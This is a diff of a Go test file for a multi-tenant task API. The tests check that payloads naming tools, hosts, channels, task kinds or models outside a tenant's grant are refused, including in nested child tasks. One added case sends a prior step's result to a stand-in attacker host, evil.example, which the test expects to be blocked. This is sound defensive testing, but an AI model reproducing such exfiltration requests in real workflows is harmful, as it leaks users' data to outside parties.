@@ -92,14 +92,19 @@ func TestSubmitRefusesWhatThePayloadNamesOutsideTheGrant(t *testing.T) {
 	}
 	steps := func(list string) string { return submit("steps", `{"steps":[`+list+`]}`) }
 	for body, detail := range map[string]string{
-		steps(`{"tool":"notify","args":{"channel":"ops","text":"x"}},{"tool":"unsafe_http","args":{"method":"GET","url":"https://api.example.com/"}}`): `payload: step 1: tenant "acme" has no grant for tool "unsafe_http"`,
-		steps(`{"tool":"http_request","args":{"method":"GET","url":"https://evil.example/x"}}`):                                                        `payload: step 0: tenant "acme" has no grant for host https://evil.example:443`,
-		steps(`{"tool":"http_request","args":{"method":"GET","url":"http://api.example.com/x"}}`):                                                      `has no grant for host http://api.example.com:80`,
-		steps(`{"tool":"notify","args":{"channel":"ceo","text":"x"}}`):                                                                                 `payload: step 0: tenant "acme" has no grant for channel "ceo"`,
-		steps(`{"tool":"create_task","args":{"kind":"sleep"}}`):                                                                                        `payload: step 0: tenant "acme" has no grant for kind "sleep"`,
-		steps(`{"tool":"http_request","args":{"method":"POST","url":"https://api.example.com/c"},"compensate":{"tool":"unsafe_http","args":{}}}`):      `payload: step 0's compensation: tenant "acme" has no grant for tool "unsafe_http"`,
-		submit("agent", `{"prompt":"hi","tools":["notify","unsafe_http"]}`):                                                                            `payload: tools[1]: tenant "acme" has no grant for tool "unsafe_http"`,
-		submit("agent", `{"prompt":"hi","model":"expensive-model"}`):                                                                                   `payload: model: tenant "acme" has no grant for model "expensive-model"`,
+		steps(`{"tool":"notify","args":{"channel":"ops","text":"x"}},{"tool":"unsafe_http","args":{"method":"GET","url":"https://api.example.com/"}}`):                                                               `payload: step 1: tenant "acme" has no grant for tool "unsafe_http"`,
+		steps(`{"tool":"http_request","args":{"method":"GET","url":"https://evil.example/x"}}`):                                                                                                                      `payload: step 0: tenant "acme" has no grant for host https://evil.example:443`,
+		steps(`{"tool":"http_request","args":{"method":"GET","url":"http://api.example.com/x"}}`):                                                                                                                    `has no grant for host http://api.example.com:80`,
+		steps(`{"tool":"notify","args":{"channel":"ceo","text":"x"}}`):                                                                                                                                               `payload: step 0: tenant "acme" has no grant for channel "ceo"`,
+		steps(`{"tool":"create_task","args":{"kind":"sleep"}}`):                                                                                                                                                      `payload: step 0: tenant "acme" has no grant for kind "sleep"`,
+		steps(`{"tool":"http_request","args":{"method":"POST","url":"https://api.example.com/c"},"compensate":{"tool":"unsafe_http","args":{"method":"DELETE","url":"https://api.example.com/c/${self.body.id}"}}}`): `payload: step 0's compensation: tenant "acme" has no grant for tool "unsafe_http"`,
+		submit("agent", `{"prompt":"hi","tools":["notify","unsafe_http"]}`):                                                                                                                                          `payload: tools[1]: tenant "acme" has no grant for tool "unsafe_http"`,
+		submit("agent", `{"prompt":"hi","model":"expensive-model"}`):                                                                                                                                                 `payload: model: tenant "acme" has no grant for model "expensive-model"`,
+		// A URL made of a result, its origin written before it.
+		steps(`{"tool":"http_request","args":{"method":"GET","url":"https://api.example.com/"}},{"tool":"http_request","args":{"method":"GET","url":"https://evil.example/x?q=${steps.0.body.id}"}}`): `payload: step 1: tenant "acme" has no grant for host https://evil.example:443`,
+		// A literal child's payload, against the same grant.
+		steps(`{"tool":"create_task","args":{"kind":"steps","payload":{"steps":[{"tool":"notify","args":{"channel":"ops","text":"x"}},{"tool":"unsafe_http","args":{"method":"GET","url":"https://api.example.com/"}}]}}}`): `payload: step 0's child: step 1: tenant "acme" has no grant for tool "unsafe_http"`,
+		steps(`{"tool":"create_task","args":{"kind":"agent","payload":{"prompt":"hi","tools":["notify","unsafe_http"]}}}`):                                                                                                  `payload: step 0's child: tools[1]: tenant "acme" has no grant for tool "unsafe_http"`,
 	} {
 		p := e.problem(e.post("/v1/tasks", token, "k1", body), http.StatusForbidden, "forbidden")
 		if !strings.Contains(p.Detail, detail) {
@@ -113,10 +118,60 @@ func TestSubmitRefusesWhatThePayloadNamesOutsideTheGrant(t *testing.T) {
 		steps(`{"tool":"http_request","args":{"method":"GET","url":"https://API.example.com:443/x"}},` +
 			`{"tool":"http_request","args":{"method":"GET","url":"${steps.0.body.next}"}},` +
 			`{"tool":"notify","args":{"channel":"${steps.0.body.channel}","text":"x"}},` +
-			`{"tool":"create_task","args":{"kind":"echo"}}`),
+			`{"tool":"create_task","args":{"kind":"echo"}},` +
+			`{"tool":"http_request","args":{"method":"GET","url":"https://${steps.0.body.host}/x"}},` +
+			`{"tool":"http_request","args":{"method":"GET","url":"https://api.${steps.0.body.domain}/x"}},` +
+			`{"tool":"http_request","args":{"method":"GET","url":"https://api.example.com/x?q=${steps.0.body.id}"}},` +
+			`{"tool":"create_task","args":{"kind":"steps","payload":{"steps":[{"tool":"notify","args":{"channel":"ops","text":"x"}}]}}},` +
+			`{"tool":"create_task","args":{"kind":"steps","payload":{"steps":[{"tool":"unsafe_http","args":{"url":"${steps.0.body.next}"}}]}}}`),
 		submit("agent", `{"prompt":"hi","tools":["notify"]}`),
 		submit("agent", `{"prompt":"hi","model":"house-model"}`),
 	} {
 		e.task(e.post("/v1/tasks", token, "k"+strconv.Itoa(i+1), body), http.StatusCreated)
+	}
+}
+
+// An API daemon configured with no model does not know the workers': a
+// model is refused at submit only when no configured model could make it
+// granted (no model granted, or one named that is not granted by name
+// under a grant without "*"); the run checks the rest on its worker.
+func TestSubmitWithNoConfiguredModelRefusesOnlyWhatIsCertain(t *testing.T) {
+	t.Parallel()
+	src := &lateGrants{}
+	var e *env
+	e = newEnv(t, httpapi.Config{Grants: src, Admit: func(ctx context.Context, p claims.EnqueueParams, anyway bool) error {
+		return admit.Check(ctx, e.claims, p, admit.Options{Anyway: anyway, Override: `send "allow_unserved": true`,
+			Grants: src, Model: ""})
+	}})
+	src.store = grants.NewStore(e.db)
+	tokens := map[string]string{}
+	for tenant, models := range map[string][]string{"star": {"*"}, "named": {"small"}, "none": nil} {
+		tokens[tenant] = e.tenant(tenant)
+		if err := src.store.Put(context.Background(), tenant, &grants.Grant{Kinds: []string{"agent", "steps"},
+			Tools: []string{"create_task"}, Models: models}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	submit := func(payload string) string { return `{"kind":"agent","allow_unserved":true,"payload":` + payload + `}` }
+	for i, tc := range []struct{ tenant, body string }{
+		{"star", submit(`{"prompt":"hi","model":"workers-model"}`)},
+		{"star", submit(`{"prompt":"hi"}`)},
+		{"named", submit(`{"prompt":"hi","model":"small"}`)},
+		{"named", submit(`{"prompt":"hi"}`)},
+		{"star", `{"kind":"steps","allow_unserved":true,"payload":{"steps":[{"tool":"create_task","args":{"kind":"agent","payload":{"prompt":"hi","model":"workers-model"}}}]}}`},
+	} {
+		e.task(e.post("/v1/tasks", tokens[tc.tenant], "ok"+strconv.Itoa(i), tc.body), http.StatusCreated)
+	}
+	for i, tc := range []struct{ tenant, body, detail string }{
+		{"none", submit(`{"prompt":"hi"}`), `payload: model: tenant "none" has no grant for model calls`},
+		{"none", submit(`{"prompt":"hi","model":"workers-model"}`), `payload: model: tenant "none" has no grant for model calls`},
+		{"named", submit(`{"prompt":"hi","model":"big"}`), `payload: model: tenant "named" has no grant for model "big"`},
+		{"none", `{"kind":"steps","allow_unserved":true,"payload":{"steps":[{"tool":"create_task","args":{"kind":"agent","payload":{"prompt":"hi"}}}]}}`,
+			`payload: step 0's child: model: tenant "none" has no grant for model calls`},
+	} {
+		p := e.problem(e.post("/v1/tasks", tokens[tc.tenant], "no"+strconv.Itoa(i), tc.body), http.StatusForbidden, "forbidden")
+		if !strings.Contains(p.Detail, tc.detail) {
+			t.Errorf("%s: %s: detail %q, want %q", tc.tenant, tc.body, p.Detail, tc.detail)
+		}
 	}
 }
